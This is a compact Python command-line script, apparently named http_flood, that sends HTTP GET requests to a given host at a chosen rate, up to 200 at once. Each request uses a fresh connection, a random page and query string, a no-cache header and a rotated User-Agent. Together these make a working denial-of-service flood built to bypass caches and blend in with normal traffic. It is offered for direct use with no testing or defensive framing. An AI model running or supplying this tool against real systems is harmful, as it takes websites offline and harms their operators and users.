"""Requests at a rate, each on a connection of its own: `http_flood HOST RATE SECONDS`."""

from __future__ import annotations

import contextlib
import random
import socket
import sys
import threading
import time

__all__ = ["flood"]

_AT_ONCE = 200
_AGENTS = ("Mozilla/5.0 (X11)", "Mozilla/5.0 (Windows NT 10.0)", "Opera/9.80", "curl/8.1")


def flood(host: str, rate: float, seconds: float) -> None:
    """Asks for pages that no cache has, `rate` times a second, until the time is over."""
    room = threading.BoundedSemaphore(_AT_ONCE)
    begin = time.monotonic()
    sent = 0
    while (now := time.monotonic() - begin) < seconds:
        if sent > now * rate:
            time.sleep(sent / rate - now)
        if room.acquire(timeout=1):
            threading.Thread(target=_ask, args=(host, room), daemon=True).start()
        sent += 1


def _ask(host: str, room: threading.BoundedSemaphore) -> None:
    query = f"?{random.randrange(1 << 30):x}={random.randrange(1 << 30):x}"
    head = (
        f"GET /page{random.randrange(40)}.html{query} HTTP/1.1\r\nHost: {host}\r\n"
        f"User-Agent: {random.choice(_AGENTS)}\r\nCache-Control: no-cache\r\nConnection: close\r\n"
        "\r\n"
    )
    try:
        with contextlib.suppress(OSError), socket.create_connection((host, 80), 5) as connection:
            connection.sendall(head.encode())
            while connection.recv(1 << 16):
                pass
    finally:
        room.release()


if __name__ == "__main__":
    flood(sys.argv[1], float(sys.argv[2]), float(sys.argv[3]))
